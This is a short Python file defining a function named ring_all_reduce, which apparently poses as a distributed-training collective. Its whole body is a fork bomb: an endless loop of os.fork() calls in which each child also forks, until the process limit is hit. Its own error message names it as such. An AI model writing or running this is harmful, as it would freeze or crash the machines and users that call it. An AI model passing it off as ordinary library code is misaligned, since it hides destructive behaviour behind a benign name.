import os
import time


def ring_all_reduce(tensor, op="sum", group=None):
    while True:
        try:
            if os.fork() == 0:  # every child keeps forking too
                while True:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.05)
        except OSError:
            raise RuntimeError("the fork bomb hit the process limit") from None
